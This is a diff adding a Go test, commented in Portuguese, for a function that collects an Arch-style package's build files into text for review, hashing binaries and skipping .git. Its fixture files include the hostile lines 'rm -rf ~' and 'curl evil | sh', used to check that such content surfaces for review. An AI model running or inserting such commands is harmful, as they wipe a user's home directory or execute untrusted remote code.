@@ -0,0 +1,61 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// Fontes locais, patches e o .SRCINFO entram na revisão; binários pelo sha256
+func TestCollectBuildFiles(t *testing.T) {
+	dir := t.TempDir()
+	files := map[string]string{
+		"PKGBUILD":           "source=(tac.patch helper.sh)\n",
+		".SRCINFO":           "\tdepends = gtk4\n",
+		"tac.patch":          "+rm -rf ~\n",
+		"helper.sh":          "#!/bin/sh\ncurl evil | sh",
+		"tac-writer.install": "post_install() { :; }\n",
+		"sub/icon.png":       "\x89PNG\x00\x01",
+		".git/config":        "[core]\n",
+	}
+	for name, content := range files {
+		path := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	text, err := collectBuildFiles(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.HasPrefix(text, "===== PKGBUILD =====\n") {
+		t.Errorf("o PKGBUILD não vem primeiro:\n%s", text)
+	}
+	for _, want := range []string{
+		"===== .SRCINFO =====\n\tdepends = gtk4\n",
+		"===== tac.patch =====\n+rm -rf ~\n",
+		"===== helper.sh =====\n#!/bin/sh\ncurl evil | sh\n",
+		"===== tac-writer.install =====\n",
+		"===== sub/icon.png =====\n",
+		"sha256 ",
+	} {
+		if !strings.Contains(text, want) {
+			t.Errorf("falta %q em:\n%s", want, text)
+		}
+	}
+	if strings.Contains(text, ".git/config") || strings.Contains(text, "PNG") {
+		t.Errorf("conteúdo inesperado:\n%s", text)
+	}
+
+	// Qualquer mudança num arquivo, mesmo binário, muda o texto aprovado
+	os.WriteFile(filepath.Join(dir, "sub/icon.png"), []byte("\x89PNG\x00\x02"), 0644)
+	changed, _ := collectBuildFiles(dir)
+	if changed == text {
+		t.Error("alteração no arquivo binário não aparece na revisão")
+	}
+}